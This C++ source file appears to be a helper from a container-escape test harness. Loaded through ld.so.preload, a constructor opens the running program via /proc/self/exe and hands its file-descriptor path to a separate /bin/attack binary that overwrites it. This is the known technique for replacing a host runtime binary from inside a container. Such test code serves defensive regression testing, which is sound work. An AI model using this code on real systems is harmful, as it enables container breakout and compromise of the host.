// SPDX-License-Identifier: Apache-2.0
// Runs first wherever the dynamic linker of an attacker's tree starts a program (/etc/ld.so.preload): takes
// hold of the program, and hands that to whoever tries to write to it.

#include <fcntl.h>
#include <unistd.h>

#include <cstdio>

namespace {

[[gnu::constructor]] void take_hold() {
    const int self = open("/proc/self/exe", O_RDONLY);
    if (self < 0) {
        _exit(1);
    }
    char path[32];
    std::snprintf(path, sizeof path, "/proc/self/fd/%d", self);
    execl("/bin/attack", "attack", "overwrite", path, "/overwritten", "1500", nullptr);
    _exit(1);
}

}  // namespace
